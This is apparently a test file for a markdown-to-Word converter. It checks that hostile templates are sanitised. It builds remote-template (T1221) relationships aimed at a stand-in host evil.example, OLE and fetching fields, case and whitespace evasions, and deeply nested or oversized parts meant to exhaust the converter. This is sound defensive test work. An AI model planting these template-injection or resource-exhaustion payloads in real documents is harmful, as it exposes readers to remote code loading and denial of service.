// Templates are untrusted input: external relationships (T1221 attachedTemplate, OLE links, sub-documents, linked
// images, alt chunks) never reach an output, no reference to a removed relationship dangles, style ids and font
// names that would break the preview's CSS are renamed everywhere, and the result stays schema-valid. Real
// templates: the built-in one and the corpus's, each with an attacker's additions.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { convert, defaultTemplate, readTemplate, sanitizedBytes } from '../../server/convert/index.ts';
import {
  cssFindings,
  EVIL,
  EVIL_FONT,
  EVIL_STYLE_ID,
  externalFindings,
  hostileTemplate,
  manyNumberings,
  manyStyles,
  partText,
  renamePart,
  SAFE_LINK,
  withParts,
} from '../helpers/hostile-template.ts';
import { validateDocx } from '../helpers/docx.ts';

const CORPUS = resolve(import.meta.dirname, '../../../shared/corpus/templates');

const bases: Array<[string, () => Uint8Array]> = [
  ['the built-in template', () => defaultTemplate()],
  ...[
    'apaquarto.docx',
    'gongwen-template-lite.dotx',
    'ntu-dissertation-template.docx',
    'office2007-academic-report.dotx',
    'officedown-template-hdr-ftr.docx',
  ].map((file): [string, () => Uint8Array] => [
    `${file} (corpus)`,
    () => new Uint8Array(readFileSync(resolve(CORPUS, file))),
  ]),
];

describe.each(bases)('a hostile template built on %s', (_name, base) => {
  const hostile = hostileTemplate(base());

  it('the crafted template really carries the threats (the test would see them)', () => {
    expect(externalFindings(hostile).join('\n')).toMatch(
      /attachedTemplate[\s\S]*oleObject|oleObject[\s\S]*attachedTemplate/,
    );
    expect(cssFindings(hostile).join('\n')).toContain(EVIL_STYLE_ID);
  });

  it('is read with a warning for each external relationship, style id and font name it had to change', () => {
    const template = readTemplate(hostile);
    const warnings = template.warnings.join('\n');
    for (const kind of ['attachedTemplate', 'oleObject', 'subDocument', 'image', 'aFChunk', 'frame'])
      expect(warnings).toContain(`template_external_removed: ${kind}`);
    expect(warnings).toContain(`${EVIL}/t1221.dotm`);
    expect(warnings).not.toContain('hyperlink');
    expect(warnings).toContain('template_field_removed: INCLUDEPICTURE (word/document.xml)');
    expect(warnings).toContain('template_field_removed: INCLUDETEXT (word/document.xml)');
    expect(warnings).not.toContain('DATE');
    expect(warnings).toContain(`template_style_renamed: style id ${JSON.stringify(EVIL_STYLE_ID)}`);
    expect(warnings).toContain(`template_font_renamed: font ${JSON.stringify(EVIL_FONT)}`);
  });

  it('the stored (sanitised) template has no external relationship but the hyperlink, nothing dangling, no CSS-breaking name, and is schema-valid', async () => {
    const clean = sanitizedBytes(hostile, readTemplate(hostile));
    expect(externalFindings(clean)).toEqual([]);
    expect(cssFindings(clean)).toEqual([]);
    expect(strFromU8(unzipSync(clean)['word/_rels/document.xml.rels'] ?? new Uint8Array())).toContain(SAFE_LINK);
    // Reading the clean template again changes nothing more.
    expect(readTemplate(clean).warnings).toEqual([]);
    const report = await validateDocx(clean);
    expect(report.ok, report.report).toBe(true);
  });

  it('every output made with it is clean too, the renamed style still applied and the hyperlink kept', async () => {
    const result = await convert({
      markdown: '# Title\n\nBody with a [link](https://example.org).\n',
      template: hostile,
      created: new Date('2026-01-01T00:00:00Z'),
    });
    expect(externalFindings(result.docx)).toEqual([]);
    expect(cssFindings(result.docx)).toEqual([]);
    const document = strFromU8(unzipSync(result.docx)['word/document.xml'] ?? new Uint8Array());
    expect(document).not.toContain('attachedTemplate');
    expect(document).not.toContain('subDoc');
    expect(document).not.toContain('OLEObject');
    expect(document).toContain('w:val="A__body_display_none__b"');
    // Fetching fields are gone, their shown results stay; a harmless field stays whole.
    expect(document).not.toMatch(/INCLUDE|PICTURE|evil\.example/);
    expect(document).toContain('tracked');
    expect(document).toContain('included');
    expect(document).toContain('w:instr=" DATE "');
    const settings = strFromU8(unzipSync(result.docx)['word/settings.xml'] ?? new Uint8Array());
    expect(settings).not.toContain('attachedTemplate');
    expect(strFromU8(unzipSync(result.docx)['word/webSettings.xml'] ?? new Uint8Array())).not.toContain('w:frame>');
    const report = await validateDocx(result.docx);
    expect(report.ok, report.report).toBe(true);
  });
});

describe('clean real templates', () => {
  for (const file of [
    'apaquarto.docx',
    'gongwen-template-lite.dotx',
    'ntu-dissertation-template.docx',
    'office2007-academic-report.dotx',
    'officedown-template-hdr-ftr.docx',
  ]) {
    it(`${file} is read without a warning and stored byte for byte as uploaded`, () => {
      const bytes = new Uint8Array(readFileSync(resolve(CORPUS, file)));
      const template = readTemplate(bytes);
      expect(template.warnings).toEqual([]);
      expect(sanitizedBytes(bytes, template)).toBe(bytes);
    });
  }
});

describe('a remote template disguised as a hyperlink', () => {
  it('w:attachedTemplate pointing at an external relationship typed "hyperlink" is removed (hyperlinks are kept only for links)', async () => {
    const base = defaultTemplate();
    const parts = unzipSync(base);
    const settings = strFromU8(parts['word/settings.xml'] ?? new Uint8Array());
    const open = settings.indexOf('>', settings.indexOf('<w:settings')) + 1;
    const disguised = withParts(base, {
      'word/_rels/settings.xml.rels':
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${EVIL}/t1221.dotm" TargetMode="External"/></Relationships>`,
      'word/settings.xml': `${settings.slice(0, open)}<w:attachedTemplate r:id="rIdLink"/>${settings.slice(open)}`,
    });
    const template = readTemplate(disguised);
    expect(template.warnings.join('\n')).toContain(
      'template_external_removed: attachedTemplate using a hyperlink relationship',
    );
    const output = await convert({ markdown: 'x\n', template: disguised, created: new Date('2026-01-01T00:00:00Z') });
    expect(strFromU8(unzipSync(output.docx)['word/settings.xml'] ?? new Uint8Array())).not.toContain(
      'attachedTemplate',
    );
  });
});

describe('a remote attachedTemplate in a relationships part named in another case (OPC part names ignore case)', () => {
  const base = defaultTemplate();
  const settings = strFromU8(unzipSync(base)['word/settings.xml'] ?? new Uint8Array());
  const open = settings.indexOf('>', settings.indexOf('<w:settings')) + 1;
  const rels = (target: string, mode: string) =>
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}"${mode}/></Relationships>`;
  const withSettings = `${settings.slice(0, open)}<w:attachedTemplate r:id="rIdT"/>${settings.slice(open)}`;
  const cases: Array<[string, string, string]> = [
    ['word/_RELS/settings.xml.rels', `${EVIL}/t.dotm`, ' TargetMode="External"'],
    ['word/_rels/settings.xml.RELS', `${EVIL}/t.dotm`, ' TargetMode="External"'],
    ['WORD/_RELS/SETTINGS.XML.RELS', `${EVIL}/t.dotm`, ' TargetMode="External"'],
    ['word/_rels/Settings.xml.rels', `${EVIL}/t.dotm`, ' TargetMode="External"'],
    ['word/_rels/settings.xml.rels', `&#9;${EVIL}/t.dotm`, ''],
    ['word/_rels/settings.xml.rels', ' \\\\evil.example\\share\\a.dotm', ''],
  ];
  it.each(cases)(
    '%s (target %j) loses the relationship and the w:attachedTemplate, with a warning',
    async (relsName, target, mode) => {
      const hostile = withParts(base, { [relsName]: rels(target, mode), 'word/settings.xml': withSettings });
      const template = readTemplate(hostile);
      expect(template.warnings.join('\n')).toContain('template_external_removed: attachedTemplate');
      for (const docx of [
        sanitizedBytes(hostile, template),
        (await convert({ markdown: 'x\n', template: hostile, created: new Date('2026-01-01T00:00:00Z') })).docx,
      ]) {
        const parts = unzipSync(docx);
        for (const [name, bytes] of Object.entries(parts)) {
          const text = strFromU8(bytes);
          expect(text, name).not.toContain('evil.example');
          expect(text, name).not.toContain('attachedTemplate r:id');
        }
      }
    },
  );
});

describe('a remote attachedTemplate in a relationships part that starts with a long run of white space', () => {
  const base = defaultTemplate();
  const settings = strFromU8(unzipSync(base)['word/settings.xml'] ?? new Uint8Array());
  const open = settings.indexOf('>', settings.indexOf('<w:settings')) + 1;
  const withSettings = `${settings.slice(0, open)}<w:attachedTemplate r:id="rIdT"/>${settings.slice(open)}`;
  it.each([70, 5_000])(
    '%i spaces first: the relationship and the w:attachedTemplate go, with a warning',
    async (spaces) => {
      const rels =
        `${' '.repeat(spaces)}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${EVIL}/t.dotm" TargetMode="External"/></Relationships>`;
      const hostile = withParts(base, { 'word/_rels/settings.xml.rels': rels, 'word/settings.xml': withSettings });
      const template = readTemplate(hostile);
      expect(template.warnings.join('\n')).toContain('template_external_removed: attachedTemplate');
      for (const docx of [
        sanitizedBytes(hostile, template),
        (await convert({ markdown: 'x\n', template: hostile })).docx,
      ])
        for (const [name, bytes] of Object.entries(unzipSync(docx)))
          expect(strFromU8(bytes), name).not.toContain('evil.example');
    },
  );
});

describe("the style and numbering caps apply by the part's role, whatever its name", () => {
  it('10,001 styles in a styles part named word/s.xml are refused', () => {
    const renamed = renamePart(manyStyles(defaultTemplate(), 10_001), 'styles.xml', 's.xml');
    expect(Object.keys(unzipSync(renamed))).toContain('word/s.xml');
    // Renamed to Word's name when read (role-parts.ts), then counted.
    expect(() => readTemplate(renamed)).toThrow(/styles in word\/styles\.xml.*limit of 10000/);
  });
  it('10,002 numbering definitions in a numbering part named word/n.xml are refused', () => {
    const base = manyNumberings(defaultTemplate(), 5_001);
    if (!unzipSync(base)['word/numbering.xml'])
      return expect.unreachable('the built-in template has word/numbering.xml');
    const renamed = renamePart(base, 'numbering.xml', 'n.xml');
    expect(() => readTemplate(renamed)).toThrow(/numbering definitions in word\/numbering\.xml.*limit of 10000/);
  });
});

describe('a numbering part past the size cap', () => {
  it('4,000 nine-level list definitions (over 4 MB, within the count; over 1 GB a conversion) are refused when read', () => {
    const levels = Array.from(
      { length: 9 },
      (_, l) =>
        `<w:lvl w:ilvl="${l}"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%${l + 1}."/><w:lvlJc w:val="left"/><w:pPr><w:ind w:left="${720 * (l + 1)}" w:hanging="360"/></w:pPr></w:lvl>`,
    ).join('');
    const definitions = Array.from(
      { length: 4_000 },
      (_, i) => `<w:abstractNum w:abstractNumId="${9000 + i}">${levels}</w:abstractNum>`,
    ).join('');
    const numbering = partText(defaultTemplate(), 'word/numbering.xml');
    const big = numbering.replace(/(<w:num )/, `${definitions}$1`);
    expect(big.length).toBeGreaterThan(4 * 1024 * 1024);
    const bytes = withParts(defaultTemplate(), { 'word/numbering.xml': big });
    expect(() => readTemplate(bytes)).toThrow(
      /word\/numbering\.xml holds \d+\.\d MB of numbering definitions, more than the limit of 4 MB/,
    );
  });
});

describe('elements nested past the cap', () => {
  const nested = (depth: number): Uint8Array => {
    const body = partText(defaultTemplate(), 'word/document.xml');
    const deep = `${'<w:p>'.repeat(depth)}${'</w:p>'.repeat(depth)}`;
    return withParts(defaultTemplate(), { 'word/document.xml': body.replace('<w:body>', `<w:body>${deep}`) });
  };
  it('80,000 nested paragraphs in the body (12 KB zipped; every conversion past 30 s) are refused when read', () => {
    const bytes = nested(80_000);
    expect(bytes.byteLength).toBeLessThan(64 * 1024);
    expect(() => readTemplate(bytes)).toThrow(
      /word\/document\.xml nests elements 8000\d deep, more than the limit of 256/,
    );
  });
  it.each(['<!-->', '<!--->'])(
    'nesting behind a comment that opens as %s (and fake end tags inside it) is still counted',
    (opening) => {
      const body = partText(defaultTemplate(), 'word/document.xml');
      const hidden = `${opening}${'</x>'.repeat(60_000)}-->${'<w:p>'.repeat(60_000)}${'</w:p>'.repeat(60_000)}`;
      const bytes = withParts(defaultTemplate(), {
        'word/document.xml': body.replace('<w:body>', `<w:body>${hidden}`),
      });
      expect(() => readTemplate(bytes)).toThrow(/nests elements 6000\d deep/);
    },
  );
  it('an empty element written <w:p/ > does not count as an open one', () => {
    const body = partText(defaultTemplate(), 'word/document.xml');
    const bytes = withParts(defaultTemplate(), {
      'word/document.xml': body.replace('<w:body>', `<w:body>${'<w:p/ >'.repeat(400)}`),
    });
    expect(() => readTemplate(bytes)).not.toThrow();
  });
  it('a template nested as deep as the cap allows is read and converts', async () => {
    const depthOfBody = 2; // w:document > w:body
    const bytes = nested(256 - depthOfBody);
    expect(() => readTemplate(bytes)).not.toThrow();
    expect((await convert({ markdown: '# Title\n\nText.', template: bytes })).docx.byteLength).toBeGreaterThan(0);
  });
});

describe('styles, numbering and notes parts under other names (the main part’s relationships say which)', () => {
  const markdown = '# Title\n\n- one\n- two\n\n1. a\n2. b\n\nText with a note[^1].\n\n[^1]: The note.\n';
  it.each([
    ['numbering.xml', 'lists.xml'],
    ['numbering.xml', 'Numbering.xml'],
    ['styles.xml', 'Styles.xml'],
    ['styles.xml', 'looks.xml'],
    ['settings.xml', 'options.xml'],
  ])('%s named word/%s: one part and one relationship of its kind in the output, which validates', async (from, to) => {
    const template = renamePart(defaultTemplate(), from, to);
    expect(Object.keys(unzipSync(template))).toContain(`word/${to}`);
    // Read as the same template: its styles found whatever their part's name.
    expect(readTemplate(template).styles).toEqual(readTemplate(defaultTemplate()).styles);
    const { docx } = await convert({ markdown, template });
    const files = unzipSync(docx);
    const kind = from.replace('.xml', '');
    const named = Object.keys(files).filter(
      (p) => [`word/${from}`, `word/${to}`].includes(p) || p.toLowerCase() === `word/${from}`,
    );
    expect(named).toHaveLength(1);
    const rels = strFromU8(files['word/_rels/document.xml.rels'] ?? new Uint8Array());
    expect(rels.match(new RegExp(`/relationships/${kind}"`, 'g'))).toHaveLength(1);
    const check = await validateDocx(docx);
    expect(check.ok, check.report).toBe(true);
  });
});

describe('a part of a role renamed: hostile relationships are refused, never followed', () => {
  const base = defaultTemplate();
  const rels = partText(base, 'word/_rels/document.xml.rels');
  const retarget = (kind: string, target: string) =>
    rels.replace(new RegExp(`(/relationships/${kind}" Target=")[^"]*"`), `$1${target}"`);
  const cases: [string, Record<string, string | null>][] = [
    [
      'numbering aimed at [Content_Types].xml',
      { 'word/_rels/document.xml.rels': retarget('numbering', '/[Content_Types].xml') },
    ],
    [
      'numbering aimed at the package relationships',
      { 'word/_rels/document.xml.rels': retarget('numbering', '../_rels/.rels') },
    ],
    [
      'styles aimed at the main part’s relationships',
      { 'word/_rels/document.xml.rels': retarget('styles', '_rels/document.xml.rels') },
    ],
    [
      'footnotes aimed outside word/',
      {
        'word/_rels/document.xml.rels': retarget('footnotes', '../customXml/item1.xml'),
        'customXml/item1.xml': '<?xml version="1.0"?><b:Sources xmlns:b="urn:b"/>',
      },
    ],
    ['styles aimed at the numbering part', { 'word/_rels/document.xml.rels': retarget('styles', 'numbering.xml') }],
    [
      'numbering at lists.xml beside a word/NUMBERING.xml',
      {
        'word/_rels/document.xml.rels': retarget('numbering', 'lists.xml'),
        'word/lists.xml': partText(base, 'word/numbering.xml'),
        'word/numbering.xml': null,
        'word/NUMBERING.xml': partText(base, 'word/numbering.xml'),
      },
    ],
  ];
  it.each(cases)('%s: refused when read', (_name, changes) => {
    expect(() => readTemplate(withParts(base, changes))).toThrow(/The template's \w+ relationship names .*:/);
  });
  it('a Relationship element in another namespace is no relationship: nothing is renamed after it', () => {
    const foreign = rels.replace(
      '</Relationships>',
      '<q:Relationship xmlns:q="urn:q" Id="rIdQ" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="notes-q.xml"/></Relationships>',
    );
    const template = readTemplate(
      withParts(base, { 'word/_rels/document.xml.rels': foreign, 'word/notes-q.xml': '<?xml version="1.0"?><x/>' }),
    );
    expect(template.parts.has('word/notes-q.xml')).toBe(true);
    expect(template.parts.has('word/comments.xml')).toBe(false);
  });
});

describe('style ids that all clean to the same name', () => {
  it('3,000 of them are renamed apart in one pass, each to a name of its own', () => {
    const styles = partText(defaultTemplate(), 'word/styles.xml');
    // x!!!!, x!!!@, …: four of ten punctuation marks after an x, so every one cleans to x____.
    const marks = '!@#$%^*()+';
    const id = (i: number) =>
      `x${String(i)
        .padStart(4, '0')
        .replace(/\d/g, (d) => marks[Number(d)] ?? '')}`;
    const extra = Array.from(
      { length: 3_000 },
      (_, i) => `<w:style w:type="paragraph" w:styleId="${id(i)}"><w:name w:val="S${i}"/></w:style>`,
    ).join('');
    const template = readTemplate(
      withParts(defaultTemplate(), { 'word/styles.xml': styles.replace('</w:styles>', `${extra}</w:styles>`) }),
    );
    const ids = template.styles.map((style) => style.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.length).toBe(readTemplate(defaultTemplate()).styles.length + 3_000);
  }, 20_000);
});
